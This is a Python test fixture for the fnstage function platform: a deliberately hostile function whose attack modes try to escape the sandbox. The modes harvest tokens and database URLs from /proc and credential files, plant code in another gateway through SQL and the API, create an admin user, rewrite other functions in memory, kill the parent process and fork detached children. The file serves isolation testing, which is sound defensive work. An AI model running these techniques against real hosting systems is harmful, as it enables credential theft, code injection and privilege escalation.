"""The hostile function: what a developer saves to their gateway's dev to get at everything else.

Not imported by the tests: its text is saved as the function's `index.py`. Each `?attack=NAME` tries
one thing function code must not be able to do, and answers what it achieved (never the secrets
themselves), so a test can assert that the attempt failed. `ctx.config` holds what an attacker who knows
fnstage's layout would know: the data folder, the CLI's config folder, the API's address, the gateways'
names and the victim function's name. Everything else it has to find for itself.
"""

import builtins
import contextlib
import ctypes
import datetime
import fcntl
import gc
import importlib
import json
import os
import re
import signal
import socket
import sqlite3
import stat
import time
import types
import urllib.error
import urllib.request

from fnstage import Response

# the originals: an attack that patches json or sorted must still be able to answer
_dumps = json.dumps
_sorted = builtins.sorted

DATABASE_URL = re.compile(r"postgres(?:ql)?(?:\+psycopg)?://[^\s\x00'\"]+")
TOKEN = re.compile(r"fns_[A-Za-z0-9_\-]{20,}")
MAX_CHILDREN = 3  # the fork attack is bounded: a test must not fork-bomb a shared machine
CHILD_LIFETIME_S = 60
PWNED_SOURCE = "async def main(ctx):\n    return {'pwned': True}\n"


def _error(exc: BaseException) -> str:
    return f"{type(exc).__name__}: {exc}"[:200]


def _read(path: str, limit: int = 1 << 20) -> bytes:
    with open(path, "rb") as f:
        return f.read(limit)


def _try_read(path: str) -> dict:
    try:
        data = _read(path, 64)
    except Exception as exc:
        return {"read": False, "error": type(exc).__name__}
    return {"read": True, "bytes": len(data)}


def _pids() -> list[int]:
    try:
        return [int(p) for p in os.listdir("/proc") if p.isdigit()]
    except Exception:
        return []


def _process_texts() -> list[tuple[str, str]]:
    """(where, text) of every argv and environment this process can read, its own included."""
    found = [("os.environ", "\n".join(f"{k}={v}" for k, v in os.environ.items()))]
    for pid in _pids():
        for what in ("cmdline", "environ"):
            try:
                text = _read(f"/proc/{pid}/{what}").replace(b"\x00", b"\n").decode(errors="replace")
            except Exception:
                continue
            found.append((f"/proc/{pid}/{what}", text))
    return found


def _file_texts(config: dict) -> list[tuple[str, str]]:
    found = []
    for path in (
        os.path.join(config["data_dir"], "admin-token"),
        os.path.join(config["config_dir"], "credentials.json"),
        os.path.expanduser("~/.config/fnstage/credentials.json"),
    ):
        try:
            found.append((path, _read(path).decode(errors="replace")))
        except Exception:
            continue
    return found


def _secrets(config: dict) -> tuple[list[str], list[str]]:
    """Database URLs and API tokens found anywhere this process can look."""
    urls: list[str] = []
    tokens: list[str] = []
    for _, text in _process_texts() + _file_texts(config):
        urls += [u for u in DATABASE_URL.findall(text) if u not in urls]
        tokens += [t for t in TOKEN.findall(text) if t not in tokens]
    return urls, tokens


# reading ----------------------------------------------------------------------------------------------
def read_files(ctx) -> dict:
    config = ctx.config
    targets = {
        "admin-token": os.path.join(config["data_dir"], "admin-token"),
        "fnstage.db": os.path.join(config["data_dir"], "fnstage.db"),
        "credentials.json": os.path.join(config["config_dir"], "credentials.json"),
        "/etc/passwd": "/etc/passwd",
    }
    result = {name: _try_read(path) for name, path in targets.items()}
    try:
        os.listdir(config["data_dir"])
        result["data folder listing"] = {"read": True}
    except Exception as exc:
        result["data folder listing"] = {"read": False, "error": type(exc).__name__}
    return result


def read_processes(ctx) -> dict:
    """Other processes' argv and environment (the parent's and supervisor's included), and our own."""
    me = os.getpid()
    readable = []
    for pid in _pids():
        if pid == me:
            continue
        for what in ("cmdline", "environ"):
            try:
                if _read(f"/proc/{pid}/{what}", 64):
                    readable.append(f"{pid}/{what}")
            except Exception:
                pass
    parent = {}
    for what in ("cmdline", "environ"):
        parent[what] = _try_read(f"/proc/{os.getppid()}/{what}")
    urls, tokens = _secrets(ctx.config)
    folders = (ctx.config["data_dir"], ctx.config["config_dir"])
    environ = _sorted(
        k
        for k, v in os.environ.items()
        if k.startswith("FNSTAGE_")
        or DATABASE_URL.search(v)
        or TOKEN.search(v)
        or any(f in v for f in folders)
    )
    return {
        "proc listed": bool(_pids()),
        "other processes readable": readable[:20],
        "parent": parent,
        "database urls found": len(urls),
        "tokens found": len(tokens),
        "environ": environ,
    }


# writing the store --------------------------------------------------------------------------------------
def _plant_sql(conn, config: dict, placeholder: str) -> None:
    """Serve our own code as the other gateway's prod function: copy our published row over it with a
    higher version, append to its publish log, as a publishing transaction would."""
    p = placeholder
    own, other, victim = config["gateway"], config["other_gateway"], "prod/" + config["victim"]
    cur = conn.cursor()
    cur.execute(
        f"select compiled, source, bundle_hash, entrypoint from published where gateway_id = {p} and name = {p}",
        (own, "dev/hostile"),
    )
    compiled, source, bundle_hash, entrypoint = cur.fetchone()
    cur.execute(f"select version from published where gateway_id = {p} and name = {p}", (other, victim))
    version = cur.fetchone()[0] + 1000
    cur.execute(f"update gateways set publish_seq = publish_seq + 1 where id = {p}", (other,))
    cur.execute(f"select publish_seq from gateways where id = {p}", (other,))
    seq = cur.fetchone()[0]
    if not isinstance(source, str):
        source = _dumps(source)
    cur.execute(
        f"update published set version = {p}, compiled = {p}, source = {p}, bundle_hash = {p}, "
        f"entrypoint = {p}, seq = {p} where gateway_id = {p} and name = {p}",
        (version, compiled, source, bundle_hash, entrypoint, seq, other, victim),
    )
    now = "current_timestamp" if p == "%s" else f"'{datetime.datetime.utcnow():%Y-%m-%d %H:%M:%S.%f}'"
    cur.execute(
        "insert into publish_log (gateway_id, seq, name, version, action, created_at) "
        f"values ({p}, {p}, {p}, {p}, 'upsert', {now})",
        (other, seq, victim, version),
    )
    if p == "%s":  # PostgreSQL: tell the runtimes, as the store does
        payload = {"gateway": other, "seq": seq, "name": victim, "version": version, "action": "upsert"}
        cur.execute("select pg_notify('fnstage_feed', %s)", (_dumps(payload),))


def write_store(ctx) -> dict:
    config = ctx.config
    result: dict = {}
    path = os.path.join(config["data_dir"], "fnstage.db")
    try:
        conn = sqlite3.connect(f"file:{path}?mode=rw", uri=True, timeout=5)  # never create one
        try:
            _plant_sql(conn, config, "?")
            conn.commit()
        finally:
            conn.close()
        result["sqlite"] = {"wrote": True}
    except Exception as exc:
        result["sqlite"] = {"wrote": False, "error": _error(exc)}
    urls, _ = _secrets(config)
    result["database urls found"] = len(urls)
    result["postgres"] = []
    for url in urls:
        try:
            psycopg = importlib.import_module("psycopg")
            conninfo = url.replace("postgresql+psycopg://", "postgresql://", 1)
            with psycopg.connect(conninfo, connect_timeout=3) as conn:
                _plant_sql(conn, config, "%s")
            result["postgres"].append({"wrote": True})
        except Exception as exc:
            result["postgres"].append({"wrote": False, "error": _error(exc)})
    return result


# the API with a stolen token ------------------------------------------------------------------------------
def _api(config: dict, token: str, method: str, path: str, body: dict | None = None) -> int:
    request = urllib.request.Request(
        config["api_url"] + "/api/v1/" + path,
        data=None if body is None else _dumps(body).encode(),
        method=method,
        headers={"Authorization": f"Bearer {token}", "Content-Type": "application/json"},
    )
    try:
        with urllib.request.urlopen(request, timeout=10) as answer:
            return answer.status
    except urllib.error.HTTPError as exc:
        return exc.code
    except Exception:
        return 0


def call_api(ctx) -> dict:
    config = ctx.config
    own, other, victim = config["gateway"], config["other_gateway"], config["victim"]
    _, tokens = _secrets(config)
    achieved = []
    valid = 0
    for token in tokens:
        if _api(config, token, "GET", "me") != 200:
            continue
        valid += 1
        steps = [
            ("release itself to its prod", "POST", f"gateways/{own}/promote",
             {"name": "dev/hostile", "target": "staging", "semver": "9.9.9-rc.1", "note": "x"}),
            ("release itself to its prod", "POST", f"gateways/{own}/promote",
             {"name": "staging/hostile", "target": "prod", "semver": "9.9.9", "note": "x"}),
            ("plant code in the other gateway", "PUT", f"gateways/{other}/functions/dev/{victim}",
             {"files": {"index.py": PWNED_SOURCE}}),
            ("plant code in the other gateway", "POST", f"gateways/{other}/promote",
             {"name": f"dev/{victim}", "target": "staging", "semver": "9.9.9-rc.1", "note": "x"}),
            ("plant code in the other gateway", "POST", f"gateways/{other}/promote",
             {"name": f"staging/{victim}", "target": "prod", "semver": "9.9.9", "note": "x"}),
            ("create an admin", "POST", "users", {"name": "mallory", "is_admin": True}),
        ]  # fmt: skip
        for what, method, path, body in steps:
            status = _api(config, token, method, path, body)
            if 200 <= status < 300 and what not in achieved:
                achieved.append(what)
    return {"tokens found": len(tokens), "tokens accepted": valid, "achieved": achieved}


# other functions in memory, shared modules ------------------------------------------------------------------
async def _pwned_async(ctx):
    return {"pwned": True}


def _pwned_sync(ctx):
    return {"pwned": True}


def rewrite_memory(ctx) -> dict:
    """Walk the garbage collector for every other function's `main` and replace its code."""
    replaced = []
    for obj in gc.get_objects():
        if not isinstance(obj, types.FunctionType) or obj.__name__ != "main" or obj is main:
            continue
        code = obj.__code__
        if not code.co_filename.endswith("index.py") or code.co_freevars:
            continue
        owner = next((c for c in code.co_consts if isinstance(c, str) and c.startswith("known:")), "?")
        is_async = bool(code.co_flags & 0x80)  # CO_COROUTINE
        try:
            obj.__code__ = (_pwned_async if is_async else _pwned_sync).__code__
            replaced.append(owner)
        except Exception:
            pass
    return {"replaced": replaced}


def patch_modules(ctx) -> dict:
    json.dumps = lambda *args, **kwargs: '"pwned"'
    json.JSONEncoder.encode = lambda self, o: '"pwned"'
    builtins.sorted = lambda *args, **kwargs: ["pwned"]
    return {"patched": ["json.dumps", "json.JSONEncoder.encode", "builtins.sorted"]}


def signal_parent(ctx) -> dict:
    """SIGKILL the process that started this one: the runtime, or a cell's supervisor."""
    parent = os.getppid()
    if parent <= 1:  # no parent of ours to see (init, or another pid namespace): nothing to try
        return {"parent": parent, "killed": False, "error": "no parent visible"}
    try:
        os.kill(parent, signal.SIGKILL)
    except Exception as exc:
        return {"parent": parent, "killed": False, "error": type(exc).__name__}
    return {"parent": parent, "killed": True, "self": os.getpid()}


# crashing, forking, holding file descriptors ----------------------------------------------------------------
def crash(ctx) -> dict:
    how = ctx.query.get("how", "abort")
    if how == "segfault":
        ctypes.string_at(0)
    elif how == "exit":
        os._exit(3)
    os.abort()
    return {"crashed": False}


def _child(write_fd: int) -> None:
    """In a forked child: report our pid, then linger holding every descriptor we inherited."""
    try:
        os.write(write_fd, f"{os.getpid()}\n".encode())
        time.sleep(CHILD_LIFETIME_S)
    finally:
        os._exit(0)


def fork(ctx) -> dict:
    """Fork children that keep running: one plain, one that starts a session of its own and double-forks
    to leave its process group. At most MAX_CHILDREN processes, each gone after CHILD_LIFETIME_S."""
    read_fd, write_fd = os.pipe()
    booted_s = time.clock_gettime(time.CLOCK_BOOTTIME)  # lets the test tell our children from pid reuse
    started = 0
    pid = os.fork()
    if pid == 0:
        _child(write_fd)
    started += 1
    pid = os.fork()
    if pid == 0:
        try:
            os.setsid()
            if os.fork() == 0:
                _child(write_fd)
        finally:
            os._exit(0)
    os.waitpid(pid, 0)
    started += 1
    os.close(write_fd)
    pids = []
    deadline = time.monotonic() + 5
    buffer = b""
    while len(pids) < started and time.monotonic() < deadline:
        chunk = os.read(read_fd, 64)
        if not chunk:
            break
        buffer += chunk
        pids = [int(p) for p in buffer.split()]
    os.close(read_fd)
    assert len(pids) <= MAX_CHILDREN
    return {"children": pids, "parent": os.getpid(), "forked_at_boot_s": booted_s}


def file_descriptors(ctx) -> dict:
    """Every descriptor this process holds: what it is, and for files their device and inode, so the test
    can tell a database or token file even when /proc/self/fd cannot be read."""
    try:
        listed = _sorted(int(fd) for fd in os.listdir("/proc/self/fd"))
        proc_listed = True
    except Exception:
        listed, proc_listed = list(range(1024)), False
    held = []
    for fd in listed:
        try:
            st = os.fstat(fd)
        except OSError:
            continue
        entry: dict = {"fd": fd}
        with contextlib.suppress(OSError):
            entry["link"] = os.readlink(f"/proc/self/fd/{fd}")
        if stat.S_ISSOCK(st.st_mode):
            entry["kind"] = "socket"
            try:
                sock = socket.socket(fileno=os.dup(fd))
            except OSError as exc:
                entry["error"] = type(exc).__name__
            else:
                try:
                    entry["family"] = sock.family.name
                    entry["local"] = sock.getsockname()
                    entry["listening"] = bool(sock.getsockopt(socket.SOL_SOCKET, socket.SO_ACCEPTCONN))
                    try:
                        entry["peer"] = sock.getpeername()
                    except OSError:
                        entry["peer"] = None
                finally:
                    sock.close()
        elif stat.S_ISREG(st.st_mode) or stat.S_ISDIR(st.st_mode):
            access = fcntl.fcntl(fd, fcntl.F_GETFL) & os.O_ACCMODE
            readable = access in (os.O_RDONLY, os.O_RDWR)
            entry.update(kind="file", dev=st.st_dev, ino=st.st_ino, readable=readable)
        else:
            entry["kind"] = "other"
        held.append(entry)
    return {"proc listed": proc_listed, "held": held}


ATTACKS = {
    "read-files": read_files,
    "read-processes": read_processes,
    "write-store": write_store,
    "call-api": call_api,
    "rewrite-memory": rewrite_memory,
    "patch-modules": patch_modules,
    "signal-parent": signal_parent,
    "crash": crash,
    "fork": fork,
    "file-descriptors": file_descriptors,
}


def main(ctx):
    attack = ctx.query.get("attack")
    result = ATTACKS[attack](ctx) if attack else {"hostile": "idle", "version": ctx.function.version}
    return Response(_dumps(result, default=str).encode(), headers={"content-type": "application/json"})
